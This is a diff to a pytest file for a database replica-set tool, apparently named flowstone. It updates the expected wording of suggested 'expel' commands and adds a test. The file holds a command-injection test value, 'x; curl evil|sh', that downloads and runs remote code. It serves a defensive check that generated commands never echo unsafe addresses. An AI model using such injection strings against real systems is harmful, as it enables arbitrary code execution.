@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from flowstone.observation.replica_set import Member, ReplicaSet, replica_sets
-from flowstone.observation.wording import expel, for_command, position, promote, rows_text, seconds_text
+from flowstone.observation.wording import expel, expel_command, for_command, position, promote, rows_text, seconds_text
 from tests.observation.reports import report, upstream, uuid
 
 EVIL = "x; curl evil|sh #:1"
@@ -53,6 +53,11 @@ def test_commands_name_no_address_that_does_more_than_say_where() -> None:
     assert member is not None
     assert member.address == EVIL
     assert promote(member) == "`flowstone promote URI`"
-    assert expel(one, member) == "`flowstone expel db1:3301 2`"
+    assert expel(one, member) == "expel it: `flowstone expel db1:3301 2`"
     answers = Member(uuid=uuid(1), id=1, address="unix/:/tmp/a; evil", report=told)
-    assert expel(ReplicaSet(uuid=None, members=(answers, member)), member) == "`flowstone expel URI 2`"
+    assert expel_command(ReplicaSet(uuid=None, members=(answers, member)), member) == "`flowstone expel URI 2`"
+
+
+def test_nobody_is_to_be_expelled_before_somebody_takes_writes() -> None:
+    (one,) = replica_sets([report(1, {1: 3}, {2: {}}, ro=True)])
+    assert expel(one, one.member(uuid(2))) == "expel it as soon as somebody takes writes: `flowstone expel db1:3301 2`"
